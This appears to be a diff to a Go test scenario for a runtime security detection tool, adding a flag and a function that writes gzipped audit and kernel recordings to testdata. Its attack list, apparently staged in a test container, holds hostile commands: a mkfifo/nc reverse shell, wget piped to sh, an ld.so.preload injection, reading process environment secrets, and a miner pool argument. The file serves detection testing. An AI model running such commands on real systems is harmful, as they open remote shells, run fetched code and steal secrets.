@@ -4,6 +4,7 @@ package scenario
 
 import (
 	"bytes"
+	"compress/gzip"
 	"context"
 	"crypto/ecdsa"
 	"crypto/elliptic"
@@ -13,6 +14,8 @@ import (
 	"crypto/x509/pkix"
 	"encoding/json"
 	"encoding/pem"
+	"errors"
+	"flag"
 	"fmt"
 	"io"
 	"log/slog"
@@ -46,6 +49,8 @@ import (
 	"github.com/riposte-dev/riposte/test/node"
 	"github.com/riposte-dev/riposte/test/stack"
 )
+
+var update = flag.Bool("update", false, "rewrite testdata from this live run")
 
 const (
 	shop       = "shop"
@@ -498,7 +503,7 @@ func (s *scene) attack() {
 		{"cat", "/proc/1/environ"},
 		{"sh", "-c", "echo /tmp/x.so >> /etc/ld.so.preload"},
 		{"sh", "-c", "cp /bin/busybox /bin/.cache"},
-		{"sh", "-c", "cp /bin/busybox /tmp/x && /tmp/x nc -w 1 " + gw + fmt.Sprint(" ", s.httpPort) + " </dev/null"},
+		{"sh", "-c", "cp /bin/busybox /tmp/nc && /tmp/nc -w 1 " + gw + fmt.Sprint(" ", s.httpPort) + " </dev/null"},
 		{"sh", "-c", "mkfifo /tmp/f; sh -i </tmp/f 2>&1 | nc " + gw + " 4444 >/tmp/f; rm -f /tmp/f"},
 		{"sh", "-c", fmt.Sprintf("wget -q -O- http://%s:%d/x | sh", gw, s.httpPort)},
 		{"sleep", "0", "-o", "stratum+tcp://pool.example:3333", "--donate-level", "1"},
@@ -782,4 +787,28 @@ func firstLine(err error) string {
 	}
 	l, _, _ := strings.Cut(err.Error(), "\n")
 	return l
+}
+
+// writeRecording stores a live run's recording in testdata.
+func writeRecording(audit, kernel []byte, ph phases) error {
+	if err := os.MkdirAll("testdata", 0o755); err != nil {
+		return err
+	}
+	for path, b := range map[string][]byte{auditFile: audit, kernelFile: kernel} {
+		f, err := os.Create(path)
+		if err != nil {
+			return err
+		}
+		z, _ := gzip.NewWriterLevel(f, gzip.BestCompression)
+		_, werr := z.Write(b)
+		cerr := z.Close()
+		if err := errors.Join(werr, cerr, f.Close()); err != nil {
+			return fmt.Errorf("write %s: %w", path, err)
+		}
+	}
+	b, err := json.MarshalIndent(ph, "", "  ")
+	if err != nil {
+		return err
+	}
+	return os.WriteFile(filepath.Clean(phaseFile), append(b, '\n'), 0o644)
 }
